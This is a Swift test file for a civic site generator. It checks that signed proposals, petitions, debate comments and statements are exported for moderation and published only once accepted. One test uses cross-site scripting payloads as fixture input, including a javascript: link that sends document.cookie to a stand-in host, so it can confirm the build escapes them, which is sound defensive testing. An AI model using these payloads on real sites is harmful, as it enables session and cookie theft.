@testable import CollectorKit
import Foundation
import Model
@testable import SiteKit
import XCTest

/// A proposal, a petition filing, a debate comment and a conversation statement, from signed submissions to the site:
/// export for moderation, acceptance, rebuild.
final class ContributionFlowTests: XCTestCase {
    private static let site = """
    -- content/site.yaml --
    title:
      en: Contribution City
      fr: Ville contributive
    base_url: https://example.org/
    collector_url: https://vote.example.org/
    default_language: en
    languages:
      - code: en
        name: English
      - code: fr
        name: Français
    -- content/_index.en.md --
    ---
    title: Home
    ---
    -- content/city/_index.en.md --
    ---
    title: City ideas
    kind: process
    phases:
      - id: open
        title: Open
        start: 2026-01-01
        end: 2035-12-31
        actions: [propose, comment, react]
    ---
    -- content/city/ideas/_index.en.md --
    ---
    title: Ideas
    component: proposals
    submissions: true
    ---
    -- content/city/debate.en.md --
    ---
    title: Should buses be free?
    type: debate
    ---
    -- content/city/talk.en.md --
    ---
    title: What makes a street pleasant?
    type: conversation
    statements:
      - id: s1
        text: More trees.
    ---
    -- content/house/_index.en.md --
    ---
    title: Petitions
    kind: petitions
    component: petitions
    filing: true
    phases:
      - id: open
        title: Open
        start: 2026-01-01
        end: 2035-12-31
        actions: [sign, propose]
    identity_fields:
      - id: name
        label: Your name
      - id: email
        kind: email
        label: Your email
    ---
    """

    private func build(_ root: URL) throws -> BallotManifest {
        var options = BuildOptions(contentDirectory: root.appendingPathComponent("content"), outputDirectory: root.appendingPathComponent("public"))
        options.runPagefind = false
        options.now = Fixtures.now
        _ = try SiteBuilder(options: options).build()
        return try BallotManifest.decoder().decode(BallotManifest.self, from: Data(contentsOf: root.appendingPathComponent("public/ballots.json")))
    }

    private func read(_ root: URL, _ page: String) throws -> String {
        try String(contentsOf: root.appendingPathComponent("public/" + page + "/index.html"), encoding: .utf8)
    }

    func testContributionsReachTheSiteOnlyOnceAccepted() throws {
        let root = TellerFixtures.temporaryDirectory()
        try TellerFixtures.writeFiles(Self.site, under: root)
        let manifest = try build(root)
        let form = { (id: String) in manifest.forms.first { $0.id == id }! }
        let key = TellerFixtures.key(70)
        let records = [
            TellerFixtures.record(form("city/ideas/propose"), [BallotItem("title", "Benches on Market Street"), BallotItem("text", "Old people need to rest."),
                                                               BallotItem("author", "Ana"), BallotItem("language", "fr")], key: key, nonce: 1),
            TellerFixtures.record(form("house/file"), [BallotItem("title", "Free school meals"), BallotItem("text", "Every child eats.")], key: key, nonce: 2,
                                  identity: #"{"email":"lee@example.org","name":"Lee Park"}"#),
            TellerFixtures.record(form("city/debate/comment"), [BallotItem("text", "Free buses cut traffic: \"yes\".\nSecond line."),
                                                                BallotItem("author", "Sam")], key: key, nonce: 3),
            TellerFixtures.record(form("city/talk/statement"), [BallotItem("text", "Fewer cars, more kids playing.")], key: key, nonce: 4),
        ]
        let inputs = try TellerFixtures.inputs(manifest.forms)
        let verification = BallotVerifier(manifest: manifest, rolls: inputs.rolls, settings: VerifySettings()).verify(records)
        XCTAssertEqual(verification.verdicts.map(\.verdict), [.valid, .valid, .valid, .valid])
        let content = root.appendingPathComponent("content")
        let identities = root.appendingPathComponent("filings.csv")
        let summary = try ContributionExport.run(verification: verification, manifest: manifest, content: content, form: nil, identities: identities)
        XCTAssertEqual(summary.written.map(\.path).sorted(), [
            "_contributions/city/debate/comment/\(records[2].receipt.prefix(16)).en.md",
            "_contributions/city/talk/statement/\(records[3].receipt.prefix(16)).en.md",
            "city/ideas/benches-on-market-street.fr.md",
            "house/free-school-meals.en.md",
        ])
        let petition = try String(contentsOf: content.appendingPathComponent("house/free-school-meals.en.md"), encoding: .utf8)
        XCTAssertEqual(petition, """
            ---
            title: "Free school meals"
            date: "2026-11-26"
            moderation: "pending"
            receipt: "\(records[1].receipt)"
            ---
            Every child eats.

            """)
        let csv = try String(contentsOf: identities, encoding: .utf8)
        XCTAssertTrue(csv.contains("\(records[1].receipt),house/file,house/free-school-meals.en.md,Lee Park,lee@example.org\r\n"), csv)
        let again = try ContributionExport.run(verification: verification, manifest: manifest, content: content, form: nil, identities: identities)
        XCTAssertEqual(again.written, [])
        XCTAssertEqual(again.alreadyExported, 4)
        XCTAssertEqual(try String(contentsOf: identities, encoding: .utf8), csv, "the second run appended identities again")

        // Pending: nothing shows.
        var rebuilt = try build(root)
        XCTAssertFalse(FileManager.default.fileExists(atPath: root.appendingPathComponent("public/en/house/free-school-meals/index.html").path))
        XCTAssertFalse(try read(root, "en/city/debate").contains("Free buses cut traffic"))
        XCTAssertEqual(rebuilt.forms.first { $0.id == "city/talk/opinions" }?.options.map(\.id), ["s1"])

        // Accepted: the moderator changes one line per file and rebuilds.
        for file in summary.written {
            let url = content.appendingPathComponent(file.path)
            try String(contentsOf: url, encoding: .utf8).replacingOccurrences(of: "moderation: \"pending\"", with: "moderation: accepted")
                .write(to: url, atomically: true, encoding: .utf8)
        }
        rebuilt = try build(root)
        XCTAssertTrue(try read(root, "fr/city/ideas/benches-on-market-street").contains("Benches on Market Street"))
        XCTAssertTrue(try read(root, "en/house/free-school-meals").contains("Every child eats."))
        XCTAssertFalse(try read(root, "en/house/free-school-meals").contains("Lee Park"))
        let debate = try read(root, "en/city/debate")
        XCTAssertTrue(debate.contains("<strong>Sam</strong>"), debate)
        XCTAssertTrue(debate.contains("Free buses cut traffic: &quot;yes&quot;.\nSecond line."))
        let statements = rebuilt.forms.first { $0.id == "city/talk/opinions" }?.options
        XCTAssertEqual(statements?.map(\.id), ["s1", "p-" + records[3].receipt.prefix(12)])
        XCTAssertTrue(try read(root, "en/city/talk").contains("Fewer cars, more kids playing."))
    }

    /// The issue's case: a participant's proposal carries a script link and raw HTML through the collector, the
    /// export and a moderator's acceptance, on a site whose communicators allow themselves raw HTML.
    func testAHostileProposalReachesTheSiteAsTextAndTheBuildSucceeds() throws {
        let root = TellerFixtures.temporaryDirectory()
        try TellerFixtures.writeFiles(Self.site.replacingOccurrences(of: "default_language: en\n", with: "default_language: en\nallow_html: true\n"), under: root)
        let manifest = try build(root)
        let form = manifest.forms.first { $0.id == "city/ideas/propose" }!
        let title = "</script><script>alert(1)</script>"
        let text = "Please [read the full text](javascript:fetch('//evil.example/'+document.cookie)).\n\n<img src=x onerror=alert(1)>"
        let record = TellerFixtures.record(form, [BallotItem("title", title), BallotItem("text", text)], key: TellerFixtures.key(72), nonce: 1)
        let verification = BallotVerifier(manifest: manifest, rolls: try TellerFixtures.inputs(manifest.forms).rolls, settings: VerifySettings()).verify([record])
        let content = root.appendingPathComponent("content")
        let summary = try ContributionExport.run(verification: verification, manifest: manifest, content: content, form: nil,
                                                 identities: root.appendingPathComponent("filings.csv"))
        let file = try XCTUnwrap(summary.written.first)
        let url = content.appendingPathComponent(file.path)
        try String(contentsOf: url, encoding: .utf8).replacingOccurrences(of: "moderation: \"pending\"", with: "moderation: accepted")
            .write(to: url, atomically: true, encoding: .utf8)
        _ = try build(root)

        let page = try read(root, "en/" + file.path.replacingOccurrences(of: ".en.md", with: ""))
        XCTAssertTrue(page.contains("<p>Please read the full text.</p>"), page)
        XCTAssertFalse(page.contains("javascript:"), page)
        XCTAssertTrue(page.contains("&lt;img src=x onerror=alert(1)&gt;"), page)
        XCTAssertFalse(page.contains("<img src=x"), page)
        XCTAssertFalse(page.contains("<script>alert(1)"), page)
        XCTAssertFalse(try read(root, "en/city/ideas").contains("<script>alert(1)"))
    }

    func testALanguageTheFormIsNotShownInIsRefused() throws {
        let root = TellerFixtures.temporaryDirectory()
        try TellerFixtures.writeFiles(Self.site, under: root)
        let manifest = try build(root)
        let form = manifest.forms.first { $0.id == "city/ideas/propose" }!
        let record = TellerFixtures.record(form, [BallotItem("title", "Benches"), BallotItem("text", "Please."), BallotItem("language", "xx")],
                                           key: TellerFixtures.key(71), nonce: 1)
        let verification = BallotVerifier(manifest: manifest, rolls: try TellerFixtures.inputs(manifest.forms).rolls, settings: VerifySettings()).verify([record])
        XCTAssertEqual(verification.verdicts.first?.verdict, .breaksRule)
        XCTAssertTrue(verification.verdicts.first?.detail?.hasPrefix("invalid_choice (language)") == true, "\(verification.verdicts)")
    }
}
